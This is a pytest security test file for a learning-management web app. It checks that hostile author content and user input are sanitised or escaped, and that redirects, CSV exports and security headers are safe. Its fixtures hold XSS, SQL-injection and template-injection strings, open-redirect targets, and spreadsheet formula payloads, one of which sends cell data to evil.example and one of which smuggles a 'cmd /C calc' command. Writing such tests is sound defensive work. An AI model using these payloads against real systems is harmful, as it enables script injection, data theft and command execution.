"""Hostile input anywhere: nothing executes, nothing 500s, what is saved is saved verbatim and shown escaped.

Two sources of text reach pages. Authors' markdown is rendered and
sanitised once, at publish time (courses.render_markdown, then
lms_app.catalog.publish). Everything people type (names, printed names,
answers, searches) is stored as typed and escaped by the templates when
shown. The inspector (page_markup.py) reads every page as a browser would.
"""
import pytest

import courses
from lms_app.accounts.models import User
from lms_app.certificates.models import Certificate
from lms_app.extensions import db
from lms_app.learn.models import Attempt

from ..conftest import CSRF_RE
from ..courses.test_rendering_safety import HOSTILE as HOSTILE_MARKDOWN
from .conftest import COURSE_SLUG, MODULE_SLUG, form_token, publish, write_course
from .page_markup import attribute_values, live_markup, visible_text

# What people may type: markup, template syntax of Jinja and Mako, SQL,
# direction overrides, look-alikes of escaped text, other scripts.
HOSTILE_TEXT = [
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<a href=\"javascript:alert(1)\">me</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "Robert'); DROP TABLE \"user\";--",
    "' OR '1'='1' --",
    "100% _wild_ \\ card",
    "\u202egnp.exe Amina",
    "&lt;b&gt;not bold&lt;/b&gt; &amp;",
    "عائشة <b>بنت</b> \u200f",
    "=HYPERLINK(\"https://evil.example\")",
]

PAGES_OF_EVERY_ROLE = ["/", "/privacy", "/account", "/my-learning", "/my-data", f"/courses/{COURSE_SLUG}"]


def _problems_on(client, urls) -> dict:
    problems = {}
    for url in urls:
        response = client.get(url)
        assert response.status_code < 500, url
        found = live_markup(response.get_data(as_text=True))
        if found:
            problems[url] = found
    return problems


def test_the_inspector_finds_nothing_on_our_own_pages(world, client_as):
    """The baseline: the layout, our scripts and stylesheets are not mistaken for injected markup."""
    learner = client_as("learner")
    admin = client_as("admin")
    assert _problems_on(learner, PAGES_OF_EVERY_ROLE + [
        f"/courses/{COURSE_SLUG}/{MODULE_SLUG}", f"/certificates/{COURSE_SLUG}",
        f"/verify/{world.certificate_code}"]) == {}
    assert _problems_on(admin, ["/admin/users", f"/admin/certificates?code={world.certificate_code}", "/author",
                                f"/author/{COURSE_SLUG}", f"/author/{COURSE_SLUG}/{MODULE_SLUG}"]) == {}


def test_the_inspector_sees_live_markup():
    assert live_markup('<p onclick="x()">a</p><script>alert(1)</script><a href=" JaVa\tScript:x">b</a>')
    assert live_markup('<img src="data:image/svg+xml,<svg onload=alert(1)>">')
    assert live_markup("<svg><circle></circle></svg>")
    assert not live_markup("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")


# Authors' content

HOSTILE_COURSE_YAML = """\
title: {en: "<script>alert('title')</script> Safe practice <img src=x onerror=alert(1)>"}
languages: [en]
summary: {en: "<iframe src=https://evil.example></iframe> [x](javascript:alert(1)) <svg onload=alert(1)>"}
audience: {en: "<b onmouseover=alert(1)>everyone</b>"}
level: entry
pass_mark: 50
certificate: true
version: "1"
"""

HOSTILE_QUIZ = """\

```quiz
id: first-step

<img src=x onerror=alert(1)> What is <script>alert(1)</script> right? <a href="javascript:alert(1)">link</a>

(x) <svg onload=alert(1)> Listen <a href="javascript:alert(1)">calmly</a>
    > <iframe src="https://evil.example"></iframe> right feedback <img src="data:image/svg+xml;base64,PHN2Zz4=">
( ) <object data="x"></object> promise
    > <a href="javascript:alert(1)">wrong feedback</a>

---
<a href="javascript:alert(1)">explanation</a> <style>body{display:none}</style>
```

```quiz
id: reflect
type: reflection

<script>alert('prompt')</script> What would you do <b onmouseover=alert(1)>differently</b>?
```
"""

# Markdown links to javascript:, vbscript: and data: are errors (X502) for
# the checker, so publishing refuses the whole course; the sanitiser would
# remove them anyway (tests/courses/test_rendering_safety.py).
REFUSED_LINKS = ["[click](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                 "[x](vbscript:msgbox(1))", "[x]: javascript:alert(1)\n\n[y][x]"]


def _refused_by_the_checker(text: str, root) -> bool:
    folder = write_course(root, module_text="---\ntitle: Page\n---\n\n" + text + "\n")
    return any(m.code == "X502" for m in courses.load_course(folder).messages)


def hostile_module(markdown: list[str]) -> str:
    front = "---\ntitle: \"<svg onload=alert(1)> Listening <script>x</script>\"\nduration: 10 min\n" \
            "objectives:\n  - \"<img src=x onerror=alert(1)> objective\"\ncpms:\n  standards: [18]\npass_mark: 50\n---\n\n"
    return front + "\n\n".join(markdown) + "\n\n" + HOSTILE_QUIZ


@pytest.fixture
def hostile_course(app, world, tmp_path, monkeypatch):
    """The world's course re-published by a hostile author: every authored text carries markup."""
    accepted = [text for index, text in enumerate(HOSTILE_MARKDOWN)
                if not _refused_by_the_checker(text, tmp_path / f"probe-{index}")]
    assert len(accepted) >= 15, "the corpus should mostly reach the page"
    content = tmp_path / "hostile-content"
    publish(write_course(content, module_text=hostile_module(accepted), course_yaml=HOSTILE_COURSE_YAML), app)
    monkeypatch.setitem(app.config, "CONTENT_DIR", str(content))
    return world


def test_hostile_author_text_is_sanitised_on_every_page_that_shows_it(hostile_course, client_as):
    world = hostile_course
    learner, admin, visitor = client_as("learner"), client_as("admin"), client_as("anonymous")
    module_url = f"/courses/{COURSE_SLUG}/{MODULE_SLUG}"
    assert _problems_on(visitor, ["/", f"/courses/{COURSE_SLUG}", f"/verify/{world.certificate_code}"]) == {}
    assert _problems_on(learner, ["/", f"/courses/{COURSE_SLUG}", module_url, "/my-learning",
                                  f"/certificates/{COURSE_SLUG}"]) == {}
    assert _problems_on(admin, ["/author", f"/author/{COURSE_SLUG}", f"/author/{COURSE_SLUG}/{MODULE_SLUG}",
                                f"/admin/certificates?code={world.certificate_code}"]) == {}
    # Shown as text, not dropped: the learner can see what the author wrote.
    assert "<script>alert('title')</script> Safe practice" in visible_text(visitor.get("/").get_data(as_text=True))


def test_hostile_feedback_and_explanation_stay_inert_after_an_answer(hostile_course, client_as):
    world = hostile_course
    learner = client_as("learner")
    for answer in ("c2", "c1"):
        response = learner.post(world.handler_url("learner"), data={"answer": answer, "idempotency_key": f"inj-{answer}-0001"})
        assert response.status_code == 303
        page = learner.get(f"/courses/{COURSE_SLUG}/{MODULE_SLUG}").get_data(as_text=True)
        assert "wrong feedback" in page or "right feedback" in page
        assert live_markup(page) == []
    json_answer = learner.post(world.handler_url("learner"), json={"answer": "c2", "idempotency_key": "inj-json-0001"},
                               headers={"Accept": "application/json"})
    assert json_answer.status_code == 200
    # The script puts the block's new HTML into the page: it must be as inert as the page.
    payload = json_answer.get_json()
    assert "wrong feedback" in payload["html"]
    assert live_markup(payload["html"]) == []


@pytest.mark.parametrize("link", REFUSED_LINKS)
def test_publishing_refuses_markdown_links_to_script_or_data(app, world, tmp_path, link):
    from lms_app.catalog.models import CourseVersion

    folder = write_course(tmp_path / "refused", module_text="---\ntitle: Page\n---\n\n" + link + "\n")
    versions = db.session.scalar(db.select(db.func.count(CourseVersion.id)))
    result = app.test_cli_runner().invoke(args=["content", "publish", str(folder)])
    assert result.exit_code != 0 and "X502" in result.output
    assert db.session.scalar(db.select(db.func.count(CourseVersion.id))) == versions


# What people type

SIGN_UP = {"password": "a brand new passphrase", "confirm": "a brand new passphrase", "organisation_type": "",
           "work_role": "", "country": ""}


def _sign_up(client, display_name: str):
    return client.post("/signup", data={**SIGN_UP, "username": "hostile.name", "display_name": display_name,
                                        "csrf_token": form_token(client, "/signup")})


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_hostile_display_name_is_stored_verbatim_and_shown_escaped(app, world, client_as, text):
    visitor = client_as("anonymous")
    response = _sign_up(visitor, text)
    assert response.status_code == 303
    user = db.session.scalar(db.select(User).where(User.username == "hostile.name"))
    assert user.display_name == text.strip()
    welcome = visitor.get("/").get_data(as_text=True)  # the flashed "Welcome, <name>"
    account = visitor.get("/account").get_data(as_text=True)
    admin_page = client_as("admin").get("/admin/users?q=hostile").get_data(as_text=True)
    for page in (welcome, account, admin_page):
        assert live_markup(page) == []
        assert user.display_name in visible_text(page)
    assert "49" not in visible_text(account)


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_hostile_printed_name_is_stored_verbatim_and_shown_escaped(world, client_as, text):
    learner = client_as("learner")
    url = f"/certificates/{COURSE_SLUG}"
    response = learner.post(url, data={"name": text, "csrf_token": form_token(learner, url)})
    assert response.status_code == 303
    certificate = db.session.get(Certificate, world.certificate_id)
    assert certificate.name_on_certificate == " ".join(text.split())
    pages = [learner.get(url).get_data(as_text=True),  # with the flash that repeats the name
             client_as("admin").get(f"/admin/certificates?code={world.certificate_code}").get_data(as_text=True)]
    for page in pages:
        assert live_markup(page) == []
        assert certificate.name_on_certificate in visible_text(page)
    verify = client_as("anonymous").get(f"/verify/{world.certificate_code}").get_data(as_text=True)
    assert certificate.name_on_certificate not in verify  # the public page never shows the name
    pdf = learner.get(f"/certificates/{world.certificate_code}.pdf")
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_hostile_reflection_is_stored_verbatim_and_shown_back_escaped(world, client_as, text):
    learner = client_as("learner")
    response = learner.post(world.handler_url("learner", world.reflection_usage_id),
                            data={"answer": text, "idempotency_key": "inj-reflection-1"})
    assert response.status_code == 303
    attempt = db.session.scalar(db.select(Attempt))
    assert attempt.answer == text
    page = learner.get(f"/courses/{COURSE_SLUG}/{MODULE_SLUG}").get_data(as_text=True)
    assert live_markup(page) == []
    assert text.strip() in visible_text(page) + " ".join(attribute_values(page))


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_hostile_usernames_are_refused_without_error(world, client_as, text):
    visitor = client_as("anonymous")
    response = visitor.post("/signup", data={**SIGN_UP, "username": text, "display_name": "Someone",
                                             "csrf_token": form_token(visitor, "/signup")})
    assert response.status_code == 400
    assert live_markup(response.get_data(as_text=True)) == []
    assert db.session.scalar(db.select(db.func.count(User.id))) == len(world.users)


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_hostile_searches_and_codes_are_echoed_escaped(world, client_as, text):
    admin = client_as("admin")
    for url, params in (("/admin/users", {"q": text}), ("/admin/certificates", {"code": text}),
                        ("/verify", {"code": text})):
        response = admin.get(url, query_string=params, follow_redirects=True)
        assert response.status_code in (200, 404), url
        page = response.get_data(as_text=True)
        assert live_markup(page) == [], url


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_hostile_revocation_reason_is_stored_and_shown_escaped(world, client_as, text):
    admin = client_as("admin")
    response = admin.post(f"/admin/certificates/{world.certificate_id}/revoke",
                          data={"reason": text, "csrf_token": form_token(admin)})
    assert response.status_code == 303
    assert db.session.get(Certificate, world.certificate_id).revoked_reason == " ".join(text.split())
    page = admin.get(f"/admin/certificates?code={world.certificate_code}").get_data(as_text=True)
    assert live_markup(page) == []


def test_sql_fragments_in_searches_are_literal_text(world, client_as):
    """The admin's search treats %, _ and quotes as characters, not as SQL."""
    admin = client_as("admin")
    everyone = admin.get("/admin/users", query_string={"q": "%"}).get_data(as_text=True)
    assert "amina" not in everyone
    injected = admin.get("/admin/users", query_string={"q": "' OR '1'='1"}).get_data(as_text=True)
    assert "amina" not in injected
    assert "amina" in admin.get("/admin/users", query_string={"q": "AMI"}).get_data(as_text=True)


@pytest.mark.parametrize("target", ["//evil.example/", "https://evil.example/", "/\\evil.example", "\\\\evil.example",
                                    "javascript:alert(1)", "http:/evil.example", "/%2F%2Fevil.example", " //evil.example"])
def test_redirect_targets_never_leave_the_site(world, app, target):
    client = app.test_client()
    signed_in = client.post(f"/signin?next={target}", data={
        "username": "amina", "password": "correct horse battery staple", "csrf_token": form_token(client, "/signin")})
    assert signed_in.status_code == 303
    language = client.post("/language", data={"language": "fr", "next": target, "csrf_token": form_token(client)})
    for response in (signed_in, language):
        location = response.headers["Location"]
        assert location.startswith("/") and not location.startswith(("//", "/\\")), location


def test_invalid_utf8_in_a_form_is_no_error(world, client_as):
    visitor = client_as("anonymous")
    token = form_token(visitor, "/signin")
    body = b"username=%FF%FEam%C3&password=%80%81%82xxxxxxxxxx&csrf_token=" + token.encode()
    response = visitor.post("/signin", data=body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 400
    assert live_markup(response.get_data(as_text=True)) == []


def test_csrf_token_in_our_forms_is_not_reflected_from_the_request(world, client_as):
    """A token planted in the query string is never written into a page's form."""
    learner = client_as("learner")
    page = learner.get("/account?csrf_token=planted-value").get_data(as_text=True)
    assert "planted-value" not in CSRF_RE.findall(page)


def test_facilitator_text_in_my_data_csv_never_runs_as_a_formula(world, client_as):
    """Cohort and session names are typed by facilitators and land in the learner's spreadsheet."""
    import csv
    import io
    import zipfile
    from datetime import date

    from lms_app.catalog.models import Course
    from lms_app.database import write_transaction
    from lms_app.facilitate.models import Attendance, Cohort, CohortMembership, CohortSession

    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    learner = world.users["learner"]
    course = db.session.scalar(db.select(Course))
    with write_transaction():
        cohort = Cohort(course_id=course.id, name=formula, language="en", join_code="FORMULA1")
        db.session.add(cohort)
        db.session.flush()
        session = CohortSession(cohort_id=cohort.id, title="@SUM(1+1)*cmd|' /C calc'!A0", held_on=date(2026, 3, 2))
        db.session.add_all([session, CohortMembership(cohort_id=cohort.id, user_id=learner.id)])
        db.session.flush()
        db.session.add(Attendance(session_id=session.id, user_id=learner.id))
    client = client_as("learner")
    archive = zipfile.ZipFile(io.BytesIO(client.get("/my-data/export.zip").data))
    cells = {}
    for name in ("cohort_memberships.csv", "attendance.csv"):
        rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
        cells[name] = [cell for row in rows[1:] for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells[name]), (name, cells[name])
    assert f"'{formula}" in cells["cohort_memberships.csv"]  # shown as the text it is
    # The JSON export is data, not a spreadsheet: verbatim.
    cohorts = [m["cohort"] for m in client.get("/my-data/export.json").get_json()["cohort_memberships"]]
    assert formula in cohorts


def test_every_page_carries_the_content_security_policy(world, client_as):
    """The second line of defence: were markup ever to slip through, no inline script or foreign origin would run."""
    from .access_rules import expected_status
    from .test_authorisation_matrix import all_rows

    for (method, rule), route in sorted(all_rows().items()):
        if method != "GET":
            continue
        role = next(r for r in ("learner", "admin", "anonymous") if expected_status(route, r) == route.ok)
        response = client_as(role).get(route.url_for(world, role))
        headers = response.headers
        assert "script-src 'self'" in headers.get("Content-Security-Policy", ""), rule
        assert "unsafe-inline" not in headers["Content-Security-Policy"], rule
        assert headers["X-Content-Type-Options"] == "nosniff", rule
        assert headers["X-Frame-Options"] == "DENY", rule
